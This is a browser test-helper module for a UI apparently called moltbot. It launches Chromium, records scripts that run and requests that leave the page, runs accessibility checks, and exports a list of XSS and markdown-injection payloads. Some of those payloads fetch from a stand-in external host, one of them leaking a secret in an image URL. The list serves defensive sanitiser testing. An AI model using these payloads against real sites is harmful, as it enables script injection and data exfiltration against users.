// The browser of the UI's tests, and what is watched in it.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium } from 'playwright-core';

const FLAGS = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
	'--disable-component-update', '--disable-sync', '--disable-dev-shm-usage'];
export const chromiumPath = '/usr/bin/chromium';
const axeSource = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

export async function launch() {
	const home = mkdtempSync(join(tmpdir(), 'moltbot-browser-'));
	const browser = await chromium.launch({ executablePath: chromiumPath, args: FLAGS, env: { ...process.env, HOME: home } });
	browser.on('disconnected', () => rmSync(home, { recursive: true, force: true }));
	return browser;
}

/** Everything of a page that would show a script that ran or a request that left: {scripts, requests, errors}. */
export function watch(page, origin) {
	const seen = { scripts: [], requests: [], errors: [] };
	page.on('dialog', (dialog) => { seen.scripts.push(dialog.message()); dialog.dismiss(); });
	page.on('popup', (popup) => seen.scripts.push(`popup ${popup.url()}`));
	page.on('download', (download) => seen.requests.push(`download ${download.url()}`));
	page.on('request', (request) => { if (new URL(request.url()).origin !== origin) seen.requests.push(request.url()); });
	page.on('websocket', (socket) => { if (new URL(socket.url()).host !== new URL(origin).host) seen.requests.push(socket.url()); });
	page.on('framenavigated', (frame) => { if (frame !== page.mainFrame()) seen.scripts.push(`frame ${frame.url()}`); });
	page.on('pageerror', (error) => seen.errors.push(error.message));
	page.on('console', (message) => { if (message.type() === 'error') seen.errors.push(message.text()); });
	return seen;
}

/** What axe-core finds serious or critical. */
export async function axe(page) {
	await page.evaluate(`${axeSource}; undefined`);
	const found = await page.evaluate(() => globalThis.axe.run(document, { resultTypes: ['violations'] }));
	return found.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical')
		.map((v) => `${v.id}: ${v.nodes.slice(0, 3).map((n) => `${n.html} ${n.failureSummary ?? ''}`).join(' | ')}`);
}

/** Elements and attributes that the page has no business having. */
export function strays(page) {
	return page.evaluate(() => {
		const known = new Set(('html head meta title link script body noscript div a nav header main span button svg path ul li bdi h1 h2 h3 h4 h5 i p ' +
			'article time details summary pre code strong em del br blockquote hr ol table thead tbody tr th td form textarea input label img ' +
			'dialog kbd dl dt dd aside section fieldset legend select option caption').split(' '));
		const found = [];
		for (const node of document.querySelectorAll('*')) {
			if (!known.has(node.localName)) found.push(`<${node.localName}>`);
			for (const { name, value } of node.attributes) {
				if (name.startsWith('on')) found.push(`${node.localName}[${name}]`);
				if (['href', 'src', 'action', 'formaction', 'srcdoc', 'data'].includes(name) && !/^(\.\/|#|https?:\/\/)/.test(value))
					found.push(`${node.localName}[${name}=${value}]`);
				if (name === 'src' && !value.startsWith('./')) found.push(`${node.localName}[src=${value}]`);
			}
		}
		return found;
	});
}

/** Attempts to get text run or fetched; alert is what would be seen. */
export const attacks = [
	'<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<img src=http://203.0.113.9/pixel.png>', '<svg onload=alert(1)>',
	'<svg><script>alert(1)</script></svg>', '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">',
	'<body onload=alert(1)>', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)></video>', '<object data="javascript:alert(1)">',
	'<embed src="javascript:alert(1)">', '<link rel=stylesheet href=http://203.0.113.9/x.css>', '<style>@import "http://203.0.113.9/y.css";</style>',
	'<base href="http://203.0.113.9/">', '<meta http-equiv=refresh content="0;url=http://203.0.113.9/">', '<form action=http://203.0.113.9><button>go',
	'<math><mtext><table><mglyph><style><img src onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'</textarea><script>alert(1)</script>', '</title><script>alert(1)</script>', '--><script>alert(1)</script>', ']]><script>alert(1)</script>',
	'"><script>alert(1)</script>', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', '`onclick=alert(1)`', '${alert(1)}', '{{constructor.constructor("alert(1)")()}}',
	'<a href="javascript:alert(1)">x</a>', '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x]( javascript:alert(1))', '[x](java\tscript:alert(1))',
	'[x](data:text/html,<script>alert(1)</script>)', '[x](vbscript:msgbox(1))', '[x](blob:http://a/b)', '[x](file:///etc/passwd)', '[x](//203.0.113.9/)',
	'[x](https://good.example@203.0.113.9/)', '![x](http://203.0.113.9/leak.png?q=secret)', '![x](https://203.0.113.9/a.svg "t" onload="alert(1))', '![][x]\n\n[x]: http://203.0.113.9/r.png',
	'<http://203.0.113.9/auto>', '<javascript:alert(1)>', '[a](https://x.example/"onmouseover="alert(1))', '[a](https://x.example/\'onclick=\'alert(1))', '[`x`](javascript:alert(1))',
	'```html\n<script>alert(1)</script>\n```', '```"><img src=x onerror=alert(1)>\ncode\n```', '~~~\n<img src=x onerror=alert(1)>', '`<script>alert(1)</script>`',
	'> <script>alert(1)</script>\n> > <img src=x onerror=alert(1)>', '# <img src=x onerror=alert(1)>', '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
	'- [ ] <img src=x onerror=alert(1)>', '1. <svg/onload=alert(1)>', '**<b onclick=alert(1)>x**', '\u0000<script>alert(1)</script>', '\u202e<txt.exe>\u202c', '\ud800<script>alert(1)</script>\udfff',
	'__proto__', 'constructor', '[x](https://xn--80ak6aa92e.example/)', '\u001b]8;;http://203.0.113.9\u0007link\u001b]8;;\u0007', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#106;avascript:alert(1)',
	`${'['.repeat(2000)}`, `${'*'.repeat(4000)}a`, `${'> '.repeat(2000)}x`, `${'- '.repeat(1000)}x`, `${'`'.repeat(3001)}`, `${'_a*'.repeat(2000)}`, `${'|'.repeat(3000)}\n|-|`,
];
